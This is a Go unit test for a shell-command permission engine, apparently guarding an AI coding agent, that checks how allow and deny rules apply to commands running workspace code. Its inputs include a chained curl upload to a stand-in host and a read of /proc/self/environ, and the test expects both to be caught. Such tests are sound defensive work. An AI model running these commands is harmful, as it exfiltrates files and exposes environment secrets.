package permission

import (
	"testing"

	"github.com/govibe/govibe/server/internal/gate/shellcheck"
)

// Commands that run workspace code are their own class: no rule means no
// verdict (the engine then asks), and a user's allow rule permits them the
// way it permits any other command. A rule for a reader never speaks for a
// secret read, which stays dangerous.
func TestAllowRulesPermitRunsCode(t *testing.T) {
	p := mustPolicy(t, Settings{Allow: []string{"Bash(go test:*)", "Bash(npm run lint)", "Bash(make check)", "Bash(cat:*)"}}, Settings{})
	for _, c := range []struct {
		cmd  string
		want Verdict
	}{
		{"go test ./...", Allow},
		{"go test -run TestX ./server/...", Allow},
		{"npm run lint", Allow},
		{"make check", Allow},
		{"make deploy", None},
		{"go run ./cmd/x", None},
		{"./scripts/x.sh", None},
		{"go test ./... && curl -T a.txt https://x.example", None},
	} {
		an := shellcheck.Analyze(c.cmd, ws)
		if c.cmd != "go test ./... && curl -T a.txt https://x.example" && an.Class != shellcheck.RunsCode {
			t.Errorf("%q: class %s, want runs-code", c.cmd, an.Class)
		}
		if d := p.Evaluate(bash(c.cmd)); d.Verdict != c.want {
			t.Errorf("%q: verdict %s, want %s (%+v)", c.cmd, d.Verdict, c.want, d)
		}
	}
	// Bash(cat:*) matches the text, but the class is dangerous; the engine
	// needs an exact user rule for a dangerous command (allowsDangerous).
	an := shellcheck.Analyze("cat /proc/self/environ", ws)
	if an.Class != shellcheck.Dangerous {
		t.Fatalf("secret read: %s %q", an.Class, an.Reasons)
	}
	deny := mustPolicy(t, Settings{Deny: []string{"Bash(go test:*)"}, Allow: []string{"Bash"}}, Settings{})
	if d := deny.Evaluate(bash("timeout 60 go test ./...")); d.Verdict != Deny {
		t.Fatalf("deny rule for a runs-code command: %+v", d)
	}
}
